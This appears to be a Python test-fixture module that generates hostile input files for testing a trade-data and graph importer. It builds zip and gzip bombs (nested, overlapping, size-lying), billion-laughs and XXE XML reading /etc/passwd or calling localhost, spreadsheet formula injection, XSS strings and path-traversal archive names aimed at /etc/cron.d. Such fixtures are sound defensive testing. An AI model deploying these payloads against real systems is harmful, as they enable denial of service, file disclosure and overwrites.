"""A folder of files that were made to hurt whoever opens them; made at test time, never kept.

Each is one row of the pitfalls that readers of tables and graphs have met: bombs, lies about size,
numbers that are none, names that are traps.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

HEADER = "Supplier,Recipient,Item,Quantity,Unit,Year"
ROW = "Belarus,Bulgaria,9P135M Konkurs,240,pieces,2015"
MB = 2**20


def csv(*rows: str, header: str = HEADER, encoding: str = "utf-8") -> bytes:
    """A table of the odd rows, and an honest one below."""
    return ("\n".join([header, *rows, ROW]) + "\n").encode(encoding)


_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
    'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _relation(kind: str, target: str) -> str:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" '
        f'Type="{_OFFICE}/{kind}" Target="{target}"/></Relationships>'
    )


_WORKBOOK = (
    f'<?xml version="1.0"?><workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
    '<sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'
)


def xlsx(sheet: str | Iterator[str], doctype: str = "") -> bytes:
    """A workbook around the rows of one sheet, as XML."""
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _relation("officeDocument", "xl/workbook.xml"))
        archive.writestr(
            "xl/_rels/workbook.xml.rels", _relation("worksheet", "worksheets/sheet1.xml")
        )
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            begin = f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{_MAIN}"><sheetData>'
            part.write(begin.encode())
            for piece in [sheet] if isinstance(sheet, str) else sheet:
                part.write(piece.encode())
            part.write(b"</sheetData></worksheet>")
    return whole.getvalue()


def cell(place: str, text: str) -> str:
    """A cell with a text in it."""
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def _far_corners() -> bytes:
    head = "".join(cell(f"{c}1", n) for c, n in zip("ABCDEF", HEADER.split(","), strict=True))
    return xlsx(
        f'<row r="1">{head}</row><row r="1048576">{cell("XFD1048576", "far")}</row>'
        f'<row r="2">{cell("A2", "Belarus")}{cell("B2", "Bulgaria")}</row>'
    )


def _many_empty_rows() -> Iterator[str]:
    yield f'<row r="1">{cell("A1", "Supplier")}{cell("B1", "Recipient")}</row>'
    slice_ = "<row/>" * 100_000
    for _ in range(100):
        yield slice_


def _zip_bomb() -> bytes:
    whole = io.BytesIO()
    with (
        zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("table.csv", "w", force_zip64=True) as part,
    ):
        part.write(csv())
        for _ in range(512):
            part.write(b"\0" * MB)
    return whole.getvalue()


def _nested_zip() -> bytes:
    inner = _zip_bomb()
    for depth in range(5):
        whole = io.BytesIO()
        with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{depth}.zip", inner)
        inner = whole.getvalue()
    return inner


def _overlapping_zip() -> bytes:
    """Many names of one compressed body, after David Fifield's "better zip bomb" of 2019."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(b"0" * (16 * MB)) + body.flush()
    crc, size = zlib.crc32(b"0" * (16 * MB)), 16 * MB
    name = b"a.csv"
    sizes = (20, 0, 8, 0, 0, crc, len(packed), size, len(name))
    local = struct.pack("<4s5H3L2H", b"PK\3\4", *sizes, 0) + name
    directory = b""
    for number in range(400):
        own = f"{number:05d}.csv".encode()
        numbers = (20, 20, 0, 8, 0, 0, crc, len(packed), size, len(own), 0, 0, 0, 0, 0, 0)
        directory += struct.pack("<4s6H3L5H2L", b"PK\1\2", *numbers) + own
    at = len(local) + len(packed)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 400, 400, len(directory), at, 0)
    return local + packed + directory + end


def _lying_zip() -> bytes:
    honest = io.BytesIO()
    with zipfile.ZipFile(honest, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("table.csv", b"0" * (64 * MB))
    data = bytearray(honest.getvalue())
    for mark, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        struct.pack_into("<L", data, data.index(mark) + at, 100)
    return bytes(data)


def _laughs(root: str) -> str:
    entities = '<!ENTITY a0 "lol">'
    for depth in range(1, 12):
        entities += f'<!ENTITY a{depth} "{f"&a{depth - 1};" * 10}">'
    return f"<!DOCTYPE {root} [{entities}]>"


def _graphml(doctype: str, name: str = "&a11;") -> bytes:
    return (
        f'<?xml version="1.0"?>{doctype}<graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
        f'<graph edgedefault="directed"><node id="{name}"/><node id="b"/>'
        f'<edge source="{name}" target="b"/></graph></graphml>'
    ).encode()


def _gexf(doctype: str) -> bytes:
    return (
        f'<?xml version="1.0"?>{doctype}<gexf xmlns="http://www.gexf.net/1.2draft" version="1.2">'
        '<graph><nodes><node id="0" label="&x;"/></nodes><edges/></graph></gexf>'
    ).encode()


def _deep_xml() -> bytes:
    return b'<?xml version="1.0"?><graphml>' + b"<graph>" * 500_000 + b"</graph>" * 500_000


_READS_A_FILE = '<!DOCTYPE gexf [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_CALLS_OUT = '<!DOCTYPE gexf [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x.dtd"> %x;]>'

_NUMBERS = (
    "1e400",
    "nan",
    "inf",
    "1_000",
    "1.500,25",
    "9" * 5_000,
    "-0",
    "-5",
    "0x10",
    "١٢٣",
    "1/2",
    "",
)
_DATES = (
    "01/02/2024",
    "2024-02-30",
    "1979; 1980",
    "2009 - 2011",
    "(1995)",
    "99999",
    "0000",
    "2024-13-01",
)
_NAMES = (
    "<b>Belarus</b>",
    "<img src=file:///etc/passwd>",
    "Bela\u202erus",
    "Bela\u200brus",
    "Bela\u0000rus",
    "Bela\u0007rus",
    "\u0421hina",
    "=HYPERLINK('http://x')",
    "+1+1",
    "@SUM(A1)",
    "\uff1d1+1",
    "a" * MB,
    "\ud7ff\u0338\u0338\u0338" * 2_000,
)


def _made() -> Iterator[tuple[str, Callable[[], bytes]]]:
    yield "empty.csv", lambda: b""
    yield "blank.csv", lambda: b" \n\t\n" * 1_000
    yield "zeros.csv", lambda: csv() + b"\0" * 1_000
    yield "begins-with-zeros.csv", lambda: b"\0" * 8 + csv()
    yield (
        "quote-never-closed.csv",
        lambda: csv('"Belarus,Bulgaria,x,1,pieces,2015' + "\nx" * 50_000),
    )
    yield "fields-too-many.csv", lambda: csv(ROW + ",,,,x", ROW + ",")
    yield "million-columns.csv", lambda: csv("a," * 1_000_000)
    yield "million-names.csv", lambda: csv(header="a," * 1_000_000)
    yield "long-line.csv", lambda: csv("a" * (8 * MB))
    yield "quotes.csv", lambda: csv('"' * MB)
    yield "utf-16.csv", lambda: csv(encoding="utf-16")
    yield "utf-16-no-mark.csv", lambda: csv(encoding="utf-16-le")
    yield "utf-8-mark.csv", lambda: csv(encoding="utf-8-sig")
    yield (
        "cp1252.csv",
        lambda: csv(
            "C\u00f4te d\u2019Ivoire,\u00d6sterreich,\u00b1,1,pieces,2015", encoding="cp1252"
        ),
    )
    yield (
        "cp1251.csv",
        lambda: csv(
            "\u0411\u0435\u043b\u0430\u0440\u0443\u0441\u044c,\u0411\u043e\u043b\u0433\u0430\u0440\u0438\u044f,x,1,pieces,2015",
            encoding="cp1251",
        ),
    )
    yield "half-utf-8.csv", lambda: csv("Be\u00efrut,X,x,1,pieces,2015")[:-1] + b"\xc3"
    yield "bare-returns.csv", lambda: csv().replace(b"\n", b"\r")
    yield "numbers.csv", lambda: csv(*(f'France,Peru,x,"{n}",pieces,2015' for n in _NUMBERS))
    yield "dates.csv", lambda: csv(*(f"France,Peru,x,1,pieces,{d}" for d in _DATES))
    yield "names.csv", lambda: csv(*(f'"{n}",Peru,x,1,pieces,2015' for n in _NAMES))
    yield "namibia.csv", lambda: csv("NA,DE,x,1,pieces,2015")
    yield "header-twice.csv", lambda: csv(HEADER, header=HEADER + ",Supplier,Supplier")
    yield "only-header.csv", lambda: (HEADER + "\n").encode()
    yield "gzip-bomb.csv.gz", lambda: gzip.compress(b"0" * (8 * MB), 9) * 128
    yield "gzip-cut.csv.gz", lambda: gzip.compress(csv() * 1_000)[:-20]
    yield "gzip-of-gzip.csv.gz", lambda: gzip.compress(gzip.compress(csv()))
    yield "zip-bomb.zip", _zip_bomb
    yield "zip-in-zip.zip", _nested_zip
    yield "zip-overlapping.zip", _overlapping_zip
    yield "zip-lying.zip", _lying_zip
    yield "zip-cut.zip", lambda: _zip_bomb()[:500]
    yield "far-corners.xlsx", _far_corners
    yield "empty-rows.xlsx", lambda: xlsx(_many_empty_rows())
    yield (
        "entities.xlsx",
        lambda: xlsx(f'<row r="1">{cell("A1", "&a11;")}</row>', _laughs("worksheet")),
    )
    yield "not-a-workbook.xlsx", lambda: b"PK\3\4" + b"x" * 1_000
    yield (
        "odd-places.xlsx",
        lambda: xlsx(f'<row r="-1">{cell("A0", "x")}{cell("ZZZZZZ9999999999", "y")}</row>'),
    )
    yield "deep.json", lambda: b"[" * 200_000
    yield "deep-objects.json", lambda: b'{"a":' * 200_000
    yield (
        "numbers.json",
        lambda: b'[{"supplier":"France","recipient":"Peru","value":1e400},{"supplier":NaN}]',
    )
    yield (
        "long-number.json",
        lambda: b'[{"supplier":"France","recipient":"Peru","value":' + b"9" * 200_000 + b"}]",
    )
    yield "twice.json", lambda: b'[{"supplier":"France","supplier":"China","recipient":"Peru"}]'
    yield "cut.json", lambda: b'[{"supplier":"France","recipient":"Peru"},{"sup'
    yield "lone-surrogate.json", lambda: b'[{"supplier":"\\ud800","recipient":"Peru","value":1}]'
    yield "laughs.graphml", lambda: _graphml(_laughs("graphml"))
    yield "laughs.gexf", lambda: _gexf(_laughs("gexf"))
    yield "reads-a-file.gexf", lambda: _gexf(_READS_A_FILE)
    yield "calls-out.gexf", lambda: _gexf(_CALLS_OUT)
    yield "deep.graphml", _deep_xml
    yield "long-name.graphml", lambda: _graphml("", "a" * MB)
    yield "deep.gml", lambda: b"graph [ " * 200_000
    yield "many-nodes.net", lambda: b'*Vertices 2000000000\n1 "a"\n2 "b"\n*Arcs\n1 2 1\n'
    yield (
        "nodes-that-are-not.net",
        lambda: b'*Vertices 2\n1 "a"\n2 "b"\n*Arcs\n1 99999999999999999999 1\n-1 2 1e400\n',
    )
    yield "deep.rtf", lambda: b"{\\rtf1" + b"{" * 500_000
    yield "binary.rtf", lambda: b"{\\rtf1 {\\b x}\\par \\bin99999999999 abc\\u999999?\\'zz}"
    yield (
        "lines.ftm.json",
        lambda: (
            b'{"id":"a","schema":"Payment","properties":{"payer":"a","beneficiary":[1,null]}}\n{"id":{}}\nnull\n'
        ),
    )
    yield "fifty-million-rows.parquet", _many_rows_of_parquet
    yield "overlapping.xlsx", _overlapping_xlsx
    yield (
        "errors.xlsx",
        lambda: xlsx(f'<row r="1">{cell("A1", "a")}{cell("B1", "b")}</row>{_ERRORS}'),
    )
    yield (
        "links.xlsx",
        lambda: _parts(
            {
                "xl/externalLinks/externalLink1.xml": _LINK,
                "xl/externalLinks/_rels/externalLink1.xml.rels": _LINKED.encode(),
                "xl/../../../climbed.xml": b"x",
            }
        ),
    )
    yield "path-in-it.csv.gz", _gzip_with_a_path
    yield "climbs-out.zip", lambda: _zip_of("../../../../tmp/climbed-out.csv")
    yield "from-the-root.zip", lambda: _zip_of("/etc/cron.d/x.csv")
    yield "long-rows.csv.gz", _long_rows
    yield "two-thousand-figures.csv", _wide_row
    yield "many-names.csv", _many_names
    yield "labels.csv", lambda: csv("a,b,c,d,e,f,g,h,i,j", header=",".join(_LABELS))
    yield "deep-key.bib", lambda: b"@article{a" + b",a={" * 20_000
    yield "many-line-ends.net", lambda: b"\n" * (64 * 1024) + b"*Vertices 1"
    yield "brackets.net", lambda: b'*Vertices 2\n1 "a"\n2 "b"\n*Arcs\n1 2 1 ' + b"[" * MB
    yield "zeros.net", lambda: b"*Vertices 2\n*Matrix\n" + b"0" * MB + b"x 1\n0 0\n"
    for worn, text in _WORN:
        yield f"a-megabyte-of-{worn}.csv", partial(_worn, text)
    yield "half.parquet", lambda: b"PAR1" + b"\xff" * 1_000 + b"PAR1"


def _many_rows_of_parquet() -> bytes:
    """Fifty million rows of one value each, in a megabyte."""
    from arro3.core import Array, ChunkedArray, DataType, Table
    from arro3.io import write_parquet

    column = Array([0] * 1_000_000, DataType.int8())
    many = ChunkedArray([column] * 50)
    stream = io.BytesIO()
    write_parquet(Table.from_pydict({"supplier": many, "recipient": many}), stream)
    return stream.getvalue()


def _parts(named: dict[str, bytes]) -> bytes:
    """A workbook with further parts in it, or others in the place of its own."""
    whole = io.BytesIO()
    first = "".join(cell(f"{c}1", n) for c, n in zip("ABCDEF", HEADER.split(","), strict=True))
    second = "".join(cell(f"{c}2", n) for c, n in zip("ABCDEF", ROW.split(","), strict=True))
    plain = xlsx(f'<row r="1">{first}</row><row r="2">{second}</row>')
    with (
        zipfile.ZipFile(io.BytesIO(plain)) as old,
        zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            if entry.filename not in named:
                new.writestr(entry.filename, old.read(entry))
        for name, body in named.items():
            new.writestr(name, body)
    return whole.getvalue()


def _overlapping_xlsx() -> bytes:
    """The sheet's body is that of the part before it."""
    data = bytearray(_parts({}))
    places = [data.index(b"PK\1\2")]
    while (at := data.find(b"PK\1\2", places[-1] + 4)) > 0:
        places.append(at)
    first = struct.unpack_from("<L", data, places[0] + 42)[0]
    for place in places[1:]:
        struct.pack_into("<L", data, place + 42, first)
    return bytes(data)


_ERRORS = "".join(
    f'<row r="{n}"><c r="A{n}" t="e"><v>#REF!</v></c><c r="B{n}" t="s"><v>99999</v></c>'
    f'<c r="C{n}"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f></c>{cell(f"D{n}", "1")}</row>'
    for n in range(2, 50)
)
_LINK = (
    f'<?xml version="1.0"?><externalLink xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><externalBook '
    'r:id="r1"/></externalLink>'
).encode()
_LINKED = _relation("externalLinkPath", "file:///etc/passwd").replace(
    '"/></R', '" TargetMode="External"/></R'
)


def _gzip_with_a_path() -> bytes:
    """The name in the head of it would be a file of the system's."""
    plain = gzip.compress(csv(), mtime=0)
    return plain[:3] + b"\x08" + plain[4:10] + b"../../../etc/cron.d/x\0" + plain[10:]


def _zip_of(name: str, body: bytes = b"") -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, body or csv())
    return whole.getvalue()


def _long_rows() -> bytes:
    """60 rows of a megabyte each, packed to as little as is believed."""
    row = b"Belarus,Bulgaria," + b"x" * MB + b",1,pieces,2015\n"
    return gzip.compress(HEADER.encode() + b"\n" + row * 60, 9)


def _wide_row() -> bytes:
    years = [f"{month:02d}/{year}" for year in range(1850, 2015) for month in range(1, 13)]
    names = ["Supplier", "Recipient", *years]
    return (",".join(names) + "\n" + ",".join(["France", "Peru", *["1"] * len(years)])).encode()


def _many_names(count: int = 60_000) -> bytes:
    rows = (f"State {n},Land {n},x,1,pieces,2015" for n in range(count))
    return csv(*rows)


_LABELS = (
    "__class__",
    "",
    "",
    "<img src=x onerror=alert(1)>",
    "\u202eelbat",
    "=1+1",
    "Supplier",
    "Supplier",
    "L" * 10_000,
    "new\x01line",
)
_WORN = (
    ("digits", "1" * MB),
    ("blanks", "1" + " " * MB + "x"),
    ("commas", "1," * (MB // 2)),
    ("years", "1999;" * (MB // 5)),
    ("brackets", "(" * MB),
    ("doubts", "?%~" * (MB // 3)),
    ("letters", "a" * MB + " 1990"),
    ("joints", " and " * (MB // 5)),
    ("marks", "\u0301" * (MB // 2)),
)


def _worn(text: str) -> bytes:
    """A cell of a megabyte in each of the columns in turn."""
    rows = []
    for place in range(6):
        cells = ROW.split(",")
        cells[place] = f'"{text}"'
        rows.append(",".join(cells))
    return csv(*rows)


_MADE = dict(_made())
NAMES = tuple(_MADE)


def one(folder: Path, name: str) -> Path:
    """Write one of them to a folder."""
    path = folder / name
    path.write_bytes(_MADE[name]())
    return path


def make(folder: Path) -> tuple[Path, ...]:
    """Write all of them to a folder."""
    return tuple(one(folder, name) for name in NAMES)
